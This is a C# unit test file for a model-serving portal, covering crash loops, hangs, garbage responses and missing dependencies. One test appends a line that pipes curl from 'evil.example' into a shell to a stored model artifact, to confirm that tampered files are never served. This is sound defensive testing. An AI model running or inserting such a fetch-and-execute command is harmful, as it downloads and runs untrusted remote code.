using System.Net;
using Portal.UnitTests.Builders;

namespace Portal.UnitTests.Deployments;

/// <summary>Model servers that crash, hang or answer garbage: Unhealthy with the reason, no traffic, the rest of the portal unaffected.</summary>
public class FaultTests(ServingPortal portal) : IClassFixture<ServingPortal>
{
    [Fact]
    public async Task AServerThatCrashesOnStart_IsACrashLoop_UnhealthyWithItsLastLogLines_AndGetsNoTraffic()
    {
        var version = await portal.ApprovedAsync(ServedModels.CrashesOnLoad);
        await portal.PutAsync("crashing", ServingPortal.Deployment("blue", version, 100));

        var unhealthy = await portal.WaitForStateAsync("crashing", "blue", "Unhealthy", seconds: 90);

        var reason = unhealthy.GetProperty("stateReason").GetString()!;
        Assert.Contains("Crash loop", reason, StringComparison.Ordinal);
        Assert.Contains("the weights file is corrupt", reason, StringComparison.Ordinal);
        var score = await portal.ScoreAsync("crashing", new { inputs = new[] { new { x = 1 } } });
        Assert.Contains("Unhealthy", (await score.JsonAsync(HttpStatusCode.ServiceUnavailable)).GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, (await portal.ClientFor("scientist@demo.local").GetAsync("/api/v1/datasets")).StatusCode);
        var logs = await (await portal.Ops.GetAsync("/api/v1/endpoints/crashing/deployments/blue/logs?instance=0")).Content.ReadAsStringAsync();
        Assert.Contains("RuntimeError: the weights file is corrupt", logs, StringComparison.Ordinal);
        var audit = await (await portal.ClientFor("admin@demo.local").GetAsync("/api/v1/audit?entity=deployment:crashing:blue")).JsonAsync();
        Assert.Contains(audit.EnumerateArray(), e => e.GetProperty("action").GetString() == "deployment.health-changed" && e.GetProperty("after").GetString() == "state=Unhealthy");
    }

    [Fact]
    public async Task AServerThatHangsOnStart_IsUnhealthyOnceItsReadinessGivesUp()
    {
        var version = await portal.ApprovedAsync(ServedModels.HangsOnLoad);
        var quickGiveUp = new { initialDelaySeconds = 0, periodSeconds = 1, timeoutSeconds = 1, failureThreshold = 3 };
        var response = await portal.Ops.PutAsync("/api/v1/endpoints/hanging", System.Net.Http.Json.JsonContent.Create(new
        {
            deployments = new[] { new { name = "blue", model = version.Model, version = version.Version, traffic = 100, readiness = quickGiveUp, liveness = ServingPortal.QuickProbe } },
        }));
        await response.JsonAsync(HttpStatusCode.Accepted);

        var unhealthy = await portal.WaitForStateAsync("hanging", "blue", "Unhealthy");

        Assert.Contains("is not ready", unhealthy.GetProperty("stateReason").GetString(), StringComparison.Ordinal);
        Assert.Contains("loading weights...", unhealthy.GetProperty("stateReason").GetString(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.ServiceUnavailable, (await portal.ScoreAsync("hanging", new { inputs = new[] { new { x = 1 } } })).StatusCode);
    }

    [Theory]
    [InlineData(ServedModels.HangsOnRequest, HttpStatusCode.RequestTimeout, "time out")]
    [InlineData(ServedModels.AnswersGarbage, HttpStatusCode.BadGateway, "garbage")]
    public async Task AServerThatHangsOrAnswersGarbage_IsTakenOutAfterFailuresInARow_AndTheDeploymentIsUnhealthy(string loader, HttpStatusCode answered, string reason)
    {
        var version = await portal.ApprovedAsync(loader);
        var name = $"bad-{Guid.NewGuid():N}"[..10];
        await portal.PutAsync(name, ServingPortal.Deployment("blue", version, 100, timeoutMs: 800, maxConcurrent: 8));
        await portal.WaitForStateAsync(name, "blue", "Healthy");

        // A client keeps calling, as clients do: each instance taken out comes back and fails again, until it is a crash loop.
        var state = "Healthy";
        var seen = new HashSet<HttpStatusCode>();
        var until = DateTime.UtcNow.AddSeconds(120);
        while (state != "Unhealthy")
        {
            Assert.True(DateTime.UtcNow < until, $"{name} did not become Unhealthy; answers seen: {string.Join(", ", seen)}");
            seen.Add((await portal.ScoreAsync(name, new { inputs = new[] { new { x = 1 } } })).StatusCode);
            state = ServingPortal.DeploymentOf(await portal.EndpointAsync(name), "blue").GetProperty("state").GetString()!;
        }

        Assert.Contains(answered, seen);
        Assert.Subset(new HashSet<HttpStatusCode> { answered, HttpStatusCode.ServiceUnavailable }, seen);
        var deployment = await portal.WaitForStateAsync(name, "blue", "Unhealthy");
        Assert.Contains(reason, deployment.GetProperty("stateReason").GetString(), StringComparison.Ordinal);
        await ServingPortal.WaitUntilAsync(async () =>
        {
            var blue = ServingPortal.DeploymentOf(await portal.EndpointAsync(name), "blue");
            return blue.GetProperty("state").GetString() != "Unhealthy"
                || (blue.GetProperty("stateReason").GetString() ?? "").Contains("Crash loop", StringComparison.Ordinal);
        }, "the crash loop to be named");
    }

    [Theory]
    [InlineData("code/testmodel.py")]
    [InlineData("manifest")]
    public async Task ModelBytesAlteredInTheArtifactStore_AreNeverServed_TheDeploymentFailsNamingIt(string altered)
    {
        // A loader of its own, so no other test's version shares these stored bytes.
        var version = await portal.ApprovedAsync(ServedModels.Doubler + $"\n# {Guid.NewGuid():N}\n");
        var stored = await portal.StoredFileAsync(version, altered);
        await File.AppendAllTextAsync(stored, "\nimport os; os.system('curl evil.example | sh')\n");
        var name = $"alt-{Guid.NewGuid():N}"[..10];

        await portal.PutAsync(name, ServingPortal.Deployment("blue", version, 100));

        var failed = await portal.WaitForStateAsync(name, "blue", "Failed");
        Assert.Contains("the artifact store was altered", failed.GetProperty("stateReason").GetString(), StringComparison.Ordinal);
        var deployment = await (await portal.Ops.GetAsync($"/api/v1/endpoints/{name}/deployments/blue")).JsonAsync();
        Assert.Empty(deployment.GetProperty("instances").EnumerateArray());
        Assert.Equal(HttpStatusCode.ServiceUnavailable, (await portal.ScoreAsync(name, new { inputs = new[] { new { x = 1 } } })).StatusCode);
    }

    [Fact]
    public async Task AModelThatNeedsMlflow_WhereThePythonHasNone_FailsToLoad_SayingHowToProvideIt()
    {
        var version = await MlflowPyFuncTests.ApprovedPythonModelAsync(portal);
        var name = $"nomlf-{Guid.NewGuid():N}"[..12];

        await portal.PutAsync(name, ServingPortal.Deployment("blue", version, 100));

        var unhealthy = await portal.WaitForStateAsync(name, "blue", "Unhealthy", seconds: 90);
        var reason = unhealthy.GetProperty("stateReason").GetString()!;
        Assert.Contains("needs the mlflow package", reason, StringComparison.Ordinal);
        Assert.Contains("Portal:Local:PythonPath", reason, StringComparison.Ordinal);
    }
}
